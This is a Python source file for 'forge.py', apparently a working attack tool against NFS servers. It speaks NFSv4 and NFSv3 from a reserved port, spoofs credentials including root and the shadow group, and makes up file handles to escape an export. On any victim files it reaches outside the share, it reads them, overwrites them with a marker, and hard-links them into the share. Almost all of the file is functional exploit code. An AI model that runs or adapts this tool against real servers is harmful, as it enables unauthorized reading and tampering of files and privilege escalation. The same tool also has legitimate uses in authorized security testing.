# SPDX-License-Identifier: GPL-2.0-or-later
"""Forge: an NFS client that makes up file handles, to get out of an export.

usage: forge.py SERVER SHARE [--handle HEX] [--victim PATH]... [--fileid TYPE:HEX]...

It speaks NFSv4.0 and NFSv3 over TCP from a reserved port, as any user that it likes. Of the
export's own handles it keeps the head and the file system, and puts other files behind them: the
root of the file system by the inode that its kind gives it, the neighbours of the share, and what
--fileid names exactly, as the leader's own kernel encodes it; each as a plain handle and as one
that claims a parent inside the share. What the server takes is walked upwards, to the victims
(relative to the root of the file system), read, written, and linked into the share.

--handle: the export's handle, for an address that is not told it.
Prints one JSON object: handles (that were made up), status (how often the server said what),
escapes (what was reached outside), root (a file that uid 0 made is root's), share (its handle).
"""

import argparse
import collections
import itertools
import json
import socket
import struct
import time

PORT = 2049
LAST_FRAGMENT = 1 << 31
NFS = 100003
OK, BUSY = 0, 10008
BUSY_TRIES, BUSY_S = 20, 0.1
DIRECTORY = 2
TIMEOUT_S = 20
GREETING = b"ssh-forged made-up\n"
NAME = b"forged"

# The client's users: the share's owner, nobody's number, root, and one with the group of shadow.
CREDENTIALS = ((1000, 1000), (4242, 4242), (0, 0), (4242, 42))

# The roots of ext4, xfs and btrfs (its trees too), and what may lie at the beginning of any.
ROOT_INODES = (1, 2, 5, 11, 12, 64, 96, 128, 131, 256, 257)
NEIGHBOURS = 12

# Bytes of the file system's part, by its type: linux/nfsfh.h, enum fsid_type.
FSID_BYTES = {0: 8, 1: 4, 2: 12, 3: 8, 4: 8, 5: 8, 6: 16, 7: 24}

# Types of a file's part: linux/exportfs.h, enum fid_type; the second claims a parent.
INO32, INO32_PARENT, INO64, INO64_PARENT, BTRFS, BTRFS_PARENT = 1, 2, 0x81, 0x82, 0x4D, 0x4E


def number(*values):
    """Encode 32-bit numbers."""
    return b"".join(struct.pack(">I", value & 0xFFFFFFFF) for value in values)


def opaque(data):
    """Encode bytes of some length."""
    return number(len(data)) + data + bytes(-len(data) % 4)


class Reader:
    """What a reply holds, from its beginning."""

    def __init__(self, data):
        self.data = data

    def bytes(self, size):
        """Take that many bytes."""
        taken, self.data = self.data[:size], self.data[size:]
        if len(taken) < size:
            raise EOFError
        return taken

    def number(self):
        """Take a 32-bit number."""
        return struct.unpack(">I", self.bytes(4))[0]

    def long(self):
        """Take a 64-bit number."""
        return struct.unpack(">Q", self.bytes(8))[0]

    def opaque(self):
        """Take bytes of some length."""
        size = self.number()
        return self.bytes(size + -size % 4)[:size]


class Refused(Exception):
    """The server's status of an operation."""

    def __init__(self, status):
        super().__init__(status)
        self.status = status


class Connection:
    """RPC to a server, from a reserved port: RFC 5531."""

    def __init__(self, server):
        self._socket = socket.socket()
        self._socket.settimeout(TIMEOUT_S)
        for port in range(600, 1000):
            try:
                self._socket.bind(("", port))
                break
            except OSError:
                continue
        self._socket.connect((server, PORT))
        self._xid = int(time.time())

    def call(self, version, procedure, credential, arguments):
        """Return a reader of the results."""
        uid, gid = credential
        self._xid += 1
        body = number(0) + opaque(b"forge") + number(uid, gid, 1, gid)
        head = number(self._xid, 0, 2, NFS, version, procedure, 1) + opaque(body) + number(0, 0)
        call = head + arguments
        self._socket.sendall(number(LAST_FRAGMENT | len(call)) + call)
        reply = Reader(self._take(struct.unpack(">I", self._take(4))[0] & ~LAST_FRAGMENT))
        verdict = [reply.number() for _ in range(3)]
        if verdict[2]:
            raise Refused("rejected")
        reply.number()
        reply.opaque()
        if reply.number():
            raise Refused("not accepted")
        return reply

    def _take(self, size):
        got = b""
        while len(got) < size:
            more = self._socket.recv(size - len(got))
            if not more:
                raise ConnectionError("the server hung up")
            got += more
        return got


class V4:
    """NFSv4.0 as far as an attack needs it: RFC 7530; stateids of zeros need no client."""

    name = "v4"
    PUTFH, PUTROOT, GETFH, GETATTR, LOOKUP, LOOKUPP = 22, 24, 10, 9, 15, 16
    READ, WRITE, LINK, SAVE = 25, 38, 11, 32
    ANYONE = bytes(16)

    def __init__(self, connection):
        self._connection = connection

    def _run(self, credential, *operations):
        body = number(0, 0, len(operations)) + b"".join(operations)
        reply = self._connection.call(4, 1, credential, body)
        status = reply.number()
        if status != OK:
            raise Refused(status)
        reply.opaque()
        reply.number()
        for operation in operations[:-1]:  # of these none has results
            reply.bytes(8)
            assert struct.unpack(">I", operation[:4])[0] not in (self.GETFH, self.GETATTR)
        reply.bytes(8)
        return reply

    def _at(self, handle):
        return number(self.PUTFH) + opaque(handle) if handle else number(self.PUTROOT)

    def inode(self, handle, credential):
        """Return type and inode."""
        asked = number(self.GETATTR, 1, 1 << 1 | 1 << 20)
        reply = self._run(credential, self._at(handle), asked)
        for _ in range(reply.number()):
            reply.number()
        attributes = Reader(reply.opaque())
        return attributes.number(), attributes.long()

    def lookup(self, handle, name, credential):
        """Return the handle of a name in a directory; None is the pseudo-root."""
        word = number(self.LOOKUPP) if name == b".." else number(self.LOOKUP) + opaque(name)
        return self._run(credential, self._at(handle), word, number(self.GETFH)).opaque()

    def read(self, handle, credential):
        """Return the first bytes of a file."""
        asked = number(self.READ) + self.ANYONE + number(0, 0, 4096)
        reply = self._run(credential, self._at(handle), asked)
        reply.number()
        return reply.opaque()

    def write(self, handle, data, credential):
        """Write to the beginning of a file."""
        asked = number(self.WRITE) + self.ANYONE + number(0, 0, 2) + opaque(data)
        self._run(credential, self._at(handle), asked)

    def link(self, handle, directory, name, credential):
        """Give a file another name."""
        there = self._at(directory)
        word = number(self.LINK) + opaque(name)
        self._run(credential, self._at(handle), number(self.SAVE), there, word)


class V3:
    """NFSv3: RFC 1813."""

    name = "v3"
    GETATTR, LOOKUP, READ, WRITE, CREATE, REMOVE, LINK, READDIRPLUS = 1, 3, 6, 7, 8, 12, 15, 17

    def __init__(self, connection):
        self._connection = connection

    def _run(self, procedure, credential, arguments):
        reply = self._connection.call(3, procedure, credential, arguments)
        status = reply.number()
        if status != OK:
            raise Refused(status)
        return reply

    def inode(self, handle, credential):
        """Return type and inode."""
        attributes = self._run(self.GETATTR, credential, opaque(handle)).bytes(84)
        return struct.unpack_from(">I", attributes)[0], struct.unpack_from(">Q", attributes, 52)[0]

    def lookup(self, handle, name, credential):
        """Return the handle of a name in a directory."""
        return self._run(self.LOOKUP, credential, opaque(handle) + opaque(name)).opaque()

    def read(self, handle, credential):
        """Return the first bytes of a file."""
        reply = self._run(self.READ, credential, opaque(handle) + number(0, 0, 4096))
        attributes(reply)
        reply.bytes(8)
        return reply.opaque()

    def write(self, handle, data, credential):
        """Write to the beginning of a file."""
        asked = opaque(handle) + number(0, 0, len(data), 2) + opaque(data)
        self._run(self.WRITE, credential, asked)

    def link(self, handle, directory, name, credential):
        """Give a file another name."""
        self._run(self.LINK, credential, opaque(handle) + opaque(directory) + opaque(name))

    def create(self, directory, name, credential):
        """Make a file; return the uid that it got."""
        where = opaque(directory) + opaque(name)
        settings = number(0, 1, 0o644, 0, 0, 0, 0, 0)
        reply = self._run(self.CREATE, credential, where + settings)
        if reply.number():
            reply.opaque()
        made = attributes(reply)
        self._run(self.REMOVE, credential, where)
        return struct.unpack_from(">I", made, 12)[0]

    def entries(self, directory, credential):
        """Yield name, inode and handle of what a directory holds."""
        asked = opaque(directory) + bytes(16) + number(32768, 32768)
        reply = self._run(self.READDIRPLUS, credential, asked)
        attributes(reply)
        reply.bytes(8)
        while reply.number():
            inode, name = reply.long(), reply.opaque()
            reply.bytes(8)
            attributes(reply)
            yield name, inode, reply.opaque() if reply.number() else None


def attributes(reply):
    """Take the attributes that may be there."""
    return reply.bytes(84) if reply.number() else b""


class Forger:
    """One run: what is tried, and what comes of it."""

    def __init__(self, server, share, victims, fileids):
        connection = Connection(server)
        self._v4, self._v3 = V4(connection), V3(connection)
        self._path = [part.encode() for part in share.strip("/").split("/")]
        self._victims = [[part.encode() for part in v.strip("/").split("/")] for v in victims]
        self._fileids = fileids
        self._inside = set()
        self._way = set()  # inodes of the pseudo-root and the directories down to the share
        self._walked = set()
        self.directory = None  # of the share, where its owner may write
        self.share = None
        self.handles = 0
        self.status = collections.Counter()
        self.escapes = []
        self.root = False

    def run(self, stolen):
        """Do all of it."""
        self.share = stolen or self._find()
        if not self.share:
            return
        self._look_inside()
        self._be_root()
        for handle in self._made_up():
            self.handles += 1
            for version in (self._v4, self._v3):
                self._use(version, handle, "a made-up handle")
        self._walk_up()

    def _try(self, what, *words):
        for _ in range(BUSY_TRIES):
            try:
                result = what(*words)
            except Refused as refused:
                self.status[refused.status] += 1
                if refused.status != BUSY:
                    return None
                time.sleep(BUSY_S)
                continue
            self.status[OK] += 1
            return result
        return None

    def _find(self):
        handle = None
        for part in self._path:
            seen = self._try(self._v4.inode, handle, CREDENTIALS[0])
            self._way.add(seen[1] if seen else 0)
            handle = self._try(self._v4.lookup, handle, part, CREDENTIALS[0])
            if not handle:
                return None
        return handle

    def _look_inside(self):
        """Learn which inodes are the share's own, by asking politely."""
        _, inode = self._try(self._v4.inode, self.share, CREDENTIALS[0]) or (0, 0)
        self._inside.add(inode)
        for _, inode, handle in self._list(self.share):
            self._inside.add(inode)
            for _, below, _ in self._list(handle) if handle else ():
                self._inside.add(below)
        self.directory = self._try(self._v4.lookup, self.share, b"datasets", CREDENTIALS[0])

    def _list(self, handle):
        """List a directory of the share, without itself and where it lies."""
        listed = self._try(lambda: list(self._v3.entries(handle, CREDENTIALS[0]))) or ()
        return [entry for entry in listed if entry[0] not in (b".", b"..")]

    def _be_root(self):
        if self.directory:
            self.root = self._try(self._v3.create, self.directory, b"forge-root", (0, 0)) == 0

    def _tree(self, handle):
        """Return the tree of a handle of btrfs, whose trees each begin with inode 256."""
        end = 4 + FSID_BYTES.get(handle[2], 8) if handle else 0
        return handle[end + 8 : end + 16] if end and handle[3] in (BTRFS, BTRFS_PARENT) else None

    def _is_of_share(self, handle):
        """Whether a handle names the share's export: all but the type of its file's part."""
        end = 4 + FSID_BYTES.get(self.share[2], 8)
        return handle[:3] == self.share[:3] and handle[4:end] == self.share[4:end]

    def _heads(self):
        """Yield the beginnings of handles: of the share and of each directory on the way to it."""
        handle, handles = None, [self.share]
        for part in self._path[:-1]:
            handle = self._try(self._v4.lookup, handle, part, CREDENTIALS[0])
            if not handle:
                break
            handles.append(handle)
        for known in dict.fromkeys(handles):
            yield known[:4], known[4 : 4 + FSID_BYTES.get(known[2], 8)]

    def _files(self):
        """Yield the ends of handles: type and bytes."""
        own = self.directory or b""
        parent = own[4 + FSID_BYTES.get(own[2], 8) :] if own else bytes(8)
        base = max(self._inside)
        near = range(max(base - NEIGHBOURS, 1), base + NEIGHBOURS)
        generations = {0, 1, *struct.unpack("<I", parent[-4:])}
        for inode, generation in itertools.product((*ROOT_INODES, *near), generations):
            if inode in self._inside:
                continue
            yield INO32, struct.pack("<II", inode & 0xFFFFFFFF, generation)
            yield INO64, struct.pack("<QI", inode, generation)
            for tree in (5, 256, 257):
                yield BTRFS, struct.pack("<QQI", inode, tree, generation)
        yield from self._fileids
        for kind, data in self._fileids:
            if kind in (INO32, INO64):
                yield kind + 1, data + parent
            elif kind == BTRFS:
                yield BTRFS_PARENT, data + parent[:8] + parent[16:20]

    def _made_up(self):
        for (head, system), (kind, data) in itertools.product(list(self._heads()), self._files()):
            yield head[:3] + bytes([kind]) + system + data
        head, system = self.share[:4], self.share[4 : 4 + FSID_BYTES.get(self.share[2], 8)]
        for inode in ROOT_INODES:  # another export's place in the same file system
            yield head[:3] + b"\0" + struct.pack("<I", inode) + system[4:]
        yield head[:2] + bytes([6, 0]) + system[-16:]  # the file system without a place
        yield head[:2] + bytes([1, 0]) + bytes(4)  # the pseudo-root, as fsid=0

    def _use(self, version, handle, how):
        """Take a handle as far as it goes."""
        found = self._try(version.inode, handle, CREDENTIALS[0])
        is_way = found and found[1] in self._way and not self._is_of_share(handle)
        tree = self._tree(handle)
        is_own_tree = tree in (None, self._tree(self.directory))
        if not found or (found[1] in self._inside and is_own_tree):
            return
        if (version.name, found[1], is_way, tree) in self._walked:
            return
        self._walked.add((version.name, found[1], is_way, tree))
        if not is_way:  # parent directory of the share is shown to everybody, and nothing else of it
            self.escapes.append(f"{version.name}: inode {found[1]} by {how} {handle.hex()}")
        if found[0] != DIRECTORY:
            self._strike(version, handle, f"inode {found[1]}")
            return
        for victim in self._victims:
            at = handle
            for part in victim:
                at = at and self._lookup(version, at, part)
            if at:
                self._strike(version, at, "/".join(part.decode() for part in victim))

    def _lookup(self, version, handle, name):
        """Look a name up as whoever may."""
        for credential in CREDENTIALS:
            found = self._try(version.lookup, handle, name, credential)
            if found:
                return found
        return None

    def _strike(self, version, handle, what):
        """Read a file, write to it, and bring it into the share."""
        for credential in CREDENTIALS:
            who = f"{version.name}: {{}} {what} as {credential[0]}:{credential[1]}"
            if self._try(version.read, handle, credential):
                self.escapes.append(who.format("read"))
            try:
                version.write(handle, GREETING, credential)
                self.escapes.append(who.format("wrote"))
            except Refused as refused:
                self.status[refused.status] += 1
            try:
                name = NAME + str(len(self.escapes)).encode()
                version.link(handle, self.directory, name, credential)
                self.escapes.append(who.format("linked"))
            except Refused as refused:
                self.status[refused.status] += 1

    def _walk_up(self):
        """Go up from the share by name, and by the handle that a listing may give away."""
        for version in (self._v4, self._v3):
            up = self._try(version.lookup, self.share, b"..", CREDENTIALS[0])
            if up:
                self._use(version, up, "looking up '..'")
        listed = self._try(lambda: list(self._v3.entries(self.share, CREDENTIALS[0]))) or ()
        for name, _, handle in listed:
            if name == b".." and handle:
                self.handles += 1
                for version in (self._v4, self._v3):
                    self._use(version, handle, "the handle of '..'")


def main():
    parser = argparse.ArgumentParser(allow_abbrev=False)
    parser.add_argument("server")
    parser.add_argument("share")
    parser.add_argument("--handle", type=bytes.fromhex)
    parser.add_argument("--victim", action="append", default=[])
    parser.add_argument("--fileid", action="append", default=[])
    words = parser.parse_args()
    fileids = [(int(f.partition(":")[0]), bytes.fromhex(f.partition(":")[2])) for f in words.fileid]
    forger = Forger(words.server, words.share, words.victim, fileids)
    forger.run(words.handle)
    said = {
        "handles": forger.handles,
        "status": dict(forger.status),
        "escapes": forger.escapes,
        "root": forger.root,
        "share": forger.share.hex() if forger.share else None,
        "directory": forger.directory.hex() if forger.directory else None,
    }
    print(json.dumps(said))


if __name__ == "__main__":
    main()
